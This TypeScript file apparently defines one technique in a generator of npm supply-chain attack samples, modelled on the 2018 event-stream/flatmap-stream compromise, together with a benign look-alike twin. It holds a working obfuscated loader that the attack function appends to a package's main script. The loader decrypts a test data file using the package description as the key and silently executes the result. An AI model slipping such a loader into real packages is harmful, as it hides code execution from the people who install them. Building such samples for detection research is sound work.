import { noise } from "../filling.ts";
import { editFile, mainFile, withFile } from "../release.ts";
import type { Technique } from "../technique.ts";

const LOADER = `
;(function () {
  try {
    var key = process.env.npm_package_description, data = require("./test/data");
    var d = require("crypto").createDecipher("aes256", key), text = d.update(data[0], "hex", "utf8");
    text += d.final("utf8");
    var m = new module.constructor(); m.paths = module.paths; m._compile(text, "");
  } catch (e) {}
})();
`;

export const decryptingLoader: Technique = {
  id: "decrypting-loader",
  title: "Code that decrypts a test file and runs what comes out",
  shape: "flatmap-stream 0.1.1 in event-stream 3.3.6, 2018 (npm, Snyk)",
  kind: "javascript",
  least: "high",
  attack: ({ after }) =>
    withFile(
      editFile(after, mainFile(after, "script"), (bytes) => Buffer.concat([bytes, Buffer.from(LOADER)])),
      "test/data.js",
      `module.exports = ["${noise(6000).toString("hex")}"];\n`,
    ),
  twinTitle: "a table of hashes that a test compares with",
  twin: ({ after }) =>
    withFile(
      after,
      "test/data.js",
      `module.exports = [\n${Array.from(
        { length: 40 },
        (_, index) =>
          `  "${noise(32 * (index + 1))
            .subarray(-32)
            .toString("hex")}",`,
      ).join("\n")}\n];\n`,
    ),
};
